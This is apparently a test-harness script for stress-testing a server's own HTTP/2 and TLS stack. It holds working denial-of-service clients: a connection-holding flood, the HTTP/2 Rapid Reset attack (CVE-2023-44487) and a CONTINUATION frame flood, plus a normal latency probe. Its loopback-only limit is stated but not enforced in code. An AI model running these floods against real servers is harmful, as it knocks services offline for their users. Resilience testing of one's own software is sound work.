#!/usr/bin/env python3
"""Attack and probe clients for scripts/attack (loopback only, bounded in count and time).

    attack_tools.py probe HOST PORT SOURCE SECONDS      a normal client: sequential keep-alive
                                                         HTTPS GETs from SOURCE; prints
                                                         "requests p50_ms p99_ms errors"
    attack_tools.py hold HOST PORT SOURCE COUNT SECONDS  COUNT silent TCP connections from
                                                         SOURCE, reopened when closed
    attack_tools.py rapid-reset HOST PORT SOURCE SECONDS HTTP/2 streams opened and reset at
                                                         once (CVE-2023-44487)
    attack_tools.py continuation HOST PORT SOURCE SECONDS HEADERS without END_HEADERS, then
                                                         CONTINUATION frames without end
"""

import socket
import ssl
import statistics
import sys
import time

import h2.config
import h2.connection
import hyperframe.frame


def tls_context(alpn):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(alpn)
    return ctx


def connect(host, port, source, alpn=None, timeout=5):
    s = socket.create_connection((host, port), timeout=timeout, source_address=(source, 0))
    if alpn is None:
        return s
    return tls_context(alpn).wrap_socket(s, server_hostname="localhost")


def probe(host, port, source, seconds):
    """Sequential GETs on one keep-alive connection (a new one after any error)."""
    lat, errors, end = [], 0, time.monotonic() + seconds
    conn = None
    req = b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"
    while time.monotonic() < end:
        try:
            if conn is None:
                conn = connect(host, port, source, ["http/1.1"])
                conn.settimeout(5)
            t = time.monotonic()
            conn.sendall(req)
            buf = b""
            while b"\r\n\r\n" not in buf:
                chunk = conn.recv(65536)
                if not chunk:
                    raise ConnectionError("closed")
                buf += chunk
            head, _, body = buf.partition(b"\r\n\r\n")
            length = 0
            for line in head.split(b"\r\n"):
                if line.lower().startswith(b"content-length:"):
                    length = int(line.split(b":")[1])
            while len(body) < length:
                chunk = conn.recv(65536)
                if not chunk:
                    raise ConnectionError("closed")
                body += chunk
            if not head.startswith(b"HTTP/1.1 200"):
                errors += 1
            lat.append((time.monotonic() - t) * 1000)
        except (OSError, ConnectionError):
            errors += 1
            conn = None
            time.sleep(0.05)
    lat.sort()
    p = lambda q: lat[min(len(lat) - 1, int(q * len(lat)))] if lat else float("nan")
    print(f"{len(lat)} {p(0.5):.2f} {p(0.99):.2f} {errors}")


def hold(host, port, source, count, seconds):
    socks, end, opened = [], time.monotonic() + seconds, 0
    while time.monotonic() < end:
        socks = [s for s in socks if alive(s)]
        while len(socks) < count and time.monotonic() < end:
            try:
                socks.append(connect(host, port, source, timeout=1))
                opened += 1
            except OSError:
                time.sleep(0.01)
                break
        time.sleep(0.2)
    print(f"opened {opened} connections, {len(socks)} still open at the end")


def alive(s):
    s.setblocking(False)
    try:
        data = s.recv(1)
        gone = data == b""
    except BlockingIOError:
        gone = False
    except OSError:
        gone = True
    if gone:
        s.close()
    return not gone


def h2_conn(host, port, source):
    s = connect(host, port, source, ["h2"])
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    c.initiate_connection()
    s.sendall(c.data_to_send())
    return s, c


def rapid_reset(host, port, source, seconds):
    end, streams, conns = time.monotonic() + seconds, 0, 0
    headers = [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", "/")]
    while time.monotonic() < end:
        try:
            s, c = h2_conn(host, port, source)
            conns += 1
            s.settimeout(2)
            for _ in range(1000):
                sid = c.get_next_available_stream_id()
                c.send_headers(sid, headers)
                c.reset_stream(sid)
                streams += 1
                s.sendall(c.data_to_send())
            s.close()
        except Exception:
            time.sleep(0.05)
    print(f"rapid reset: {streams} streams reset over {conns} connections")


def continuation(host, port, source, seconds):
    end, frames, conns = time.monotonic() + seconds, 0, 0
    while time.monotonic() < end:
        try:
            s, c = h2_conn(host, port, source)
            conns += 1
            s.settimeout(2)
            first = hyperframe.frame.HeadersFrame(1)
            first.data = b"\x82\x87\x84"  # :method GET, :scheme https, :path / (static table)
            s.sendall(first.serialize())
            while time.monotonic() < end:
                cont = hyperframe.frame.ContinuationFrame(1)
                cont.data = b"\x00\x01x\x01y" * 1000  # literal x: y, again and again
                s.sendall(cont.serialize())
                frames += 1
        except Exception:
            time.sleep(0.05)
    print(f"continuation flood: {frames} CONTINUATION frames over {conns} connections")


if __name__ == "__main__":
    cmd, args = sys.argv[1], sys.argv[2:]
    host, port, source = args[0], int(args[1]), args[2]
    if cmd == "probe":
        probe(host, port, source, float(args[3]))
    elif cmd == "hold":
        hold(host, port, source, int(args[3]), float(args[4]))
    elif cmd == "rapid-reset":
        rapid_reset(host, port, source, float(args[3]))
    elif cmd == "continuation":
        continuation(host, port, source, float(args[3]))
    else:
        sys.exit(__doc__)
